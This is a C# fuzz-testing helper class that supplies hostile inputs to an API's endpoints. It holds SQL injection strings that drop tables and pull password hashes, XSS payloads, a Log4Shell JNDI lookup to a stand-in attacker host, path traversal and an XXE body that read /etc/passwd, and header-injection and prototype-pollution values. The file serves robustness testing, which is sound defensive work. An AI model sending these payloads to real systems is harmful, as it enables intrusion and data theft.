using System.Globalization;
using System.Text;
using System.Text.Json.Nodes;

namespace Hub.Chaos.Fuzz;

/// <summary>The hostile inputs the fuzzers draw from: injection strings, control characters, odd Unicode, wrong types.</summary>
public static class Hostile
{
    /// <summary>Strings an attacker (or a broken client) sends where a name, an id or a text is expected.</summary>
    public static readonly string[] Strings =
    [
        "' OR 1=1 --",
        "'; DROP TABLE contacts; --",
        "\"; DELETE FROM messages WHERE '1'='1",
        "1' UNION SELECT password_hash FROM members --",
        "%' OR '%'='",
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "\"><svg onload=alert(1)>",
        "javascript:alert(1)",
        "{{ 7 * 7 }}{% raw %}",
        "${jndi:ldap://evil.example/a}",
        "../../../../etc/passwd",
        "Ada\r\nBcc: victim@evil.example",
        "Subject\r\n\r\n<html>injected",
        "line\nbreak\rcarriage",
        "nul\0inside",
        "\0",
        "\u202Eevil.exe\u202Dtxt",
        "مرحبا بالعالم",
        "👩‍👩‍👧‍👦🔥🙂",
        "\uFEFF\u200B\u00A0",
        "\uD800", // a lone surrogate
        "",
        " ",
        "null",
        "NaN",
        "-1",
        "99999999999999999999999",
        "0x7fffffff",
        "1e309",
        "2026-13-45T25:61:61Z",
        "not-a-guid",
        "00000000-0000-0000-0000-000000000000",
        "%00%0d%0a",
        "a@b",
        "+1 (555) 0100; DROP",
    ];

    /// <summary>Values of the wrong JSON type, or out of range, for any member.</summary>
    public static JsonNode? WrongValue(Random random) => random.Next(16) switch
    {
        0 => null,
        1 => JsonValue.Create(-1),
        2 => JsonValue.Create(long.MaxValue),
        3 => JsonValue.Create(-9_999_999_999.5),
        4 => JsonValue.Create(true),
        5 => new JsonArray(JsonValue.Create(1), JsonValue.Create("x"), null),
        6 => new JsonObject { ["$where"] = "1==1", ["__proto__"] = new JsonObject { ["admin"] = true } },
        7 => JsonValue.Create(Huge(random)),
        8 => JsonValue.Create(0),
        9 => JsonValue.Create(int.MinValue),
        10 => new JsonArray(),
        11 => new JsonObject(),
        _ => JsonValue.Create(Pick(random)),
    };

    /// <summary>One of <see cref="Strings"/>.</summary>
    public static string Pick(Random random) => Strings[random.Next(Strings.Length)];

    /// <summary>A long string (64 KiB to 1 MiB) of one repeated hostile fragment.</summary>
    public static string Huge(Random random)
    {
        var fragment = random.Next(3) switch { 0 => "A", 1 => "<b>é🙂'", _ => "' OR 1=1 --\r\n" };
        var length = random.Next(64 * 1024, 1024 * 1024);
        return new StringBuilder(length + fragment.Length).Insert(0, fragment, length / fragment.Length).ToString();
    }

    /// <summary>JSON nested <paramref name="depth"/> levels deep (well past System.Text.Json's 64).</summary>
    public static string Deep(int depth, bool arrays) => arrays
        ? new string('[', depth) + new string(']', depth)
        : string.Concat(Enumerable.Repeat("{\"a\":", depth)) + "1" + new string('}', depth);

    /// <summary>Bodies that are not the JSON the endpoint reads.</summary>
    public static readonly (string Name, string ContentType, byte[] Body)[] MalformedBodies =
    [
        ("truncated json", "application/json", "{\"name\": \"x"u8.ToArray()),
        ("trailing garbage", "application/json", "{}}}"u8.ToArray()),
        ("json null", "application/json", "null"u8.ToArray()),
        ("json string", "application/json", "\"hello\""u8.ToArray()),
        ("json number", "application/json", "12345678901234567890"u8.ToArray()),
        ("json array", "application/json", "[{}, 1, \"x\"]"u8.ToArray()),
        ("comments and trailing commas", "application/json", "{/* c */ \"a\": 1,}"u8.ToArray()),
        ("single quotes", "application/json", "{'name': 'x'}"u8.ToArray()),
        ("duplicate members", "application/json", "{\"name\":\"a\",\"name\":\"b\"}"u8.ToArray()),
        ("invalid utf-8", "application/json", [(byte)'{', (byte)'"', (byte)'a', (byte)'"', (byte)':', (byte)'"', 0xC3, 0x28, 0xFF, 0xFE, (byte)'"', (byte)'}']),
        ("utf-16 bom", "application/json", [0xFF, 0xFE, (byte)'{', 0, (byte)'}', 0]),
        ("nul bytes", "application/json", [0, 0, 0, 0]),
        ("empty body", "application/json", []),
        ("escaped lone surrogate", "application/json", "{\"name\":\"\\ud800\",\"first_name\":\"\\udfff\"}"u8.ToArray()),
        ("escaped nul", "application/json", "{\"name\":\"a\\u0000b\",\"first_name\":\"a\\u0000b\",\"content\":\"a\\u0000b\"}"u8.ToArray()),
        ("deep objects", "application/json", Encoding.UTF8.GetBytes(Deep(5000, arrays: false))),
        ("deep arrays", "application/json", Encoding.UTF8.GetBytes(Deep(5000, arrays: true))),
        ("xml", "application/xml", "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>"u8.ToArray()),
        ("form", "application/x-www-form-urlencoded", "name=%27+OR+1%3D1+--&email=%0d%0a"u8.ToArray()),
        ("json as text/plain", "text/plain", "{}"u8.ToArray()),
        ("multipart", "multipart/form-data; boundary=zz", "--zz\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nb\r\n--zz--"u8.ToArray()),
        ("bogus content type", "application/json; charset=ebcdic", "{}"u8.ToArray()),
    ];

    /// <summary>A value for a route or query parameter: usually hostile, escaped for the URL.</summary>
    public static string UrlValue(Random random) => Uri.EscapeDataString(random.Next(8) switch
    {
        0 => Guid.NewGuid().ToString(),
        1 => new string('9', random.Next(10, 400)),
        2 => "-" + random.Next().ToString(CultureInfo.InvariantCulture),
        3 => new string('x', random.Next(2_000, 6_000)),
        _ => Pick(random).Replace("\uD800", "\uFFFD", StringComparison.Ordinal),
    });
}
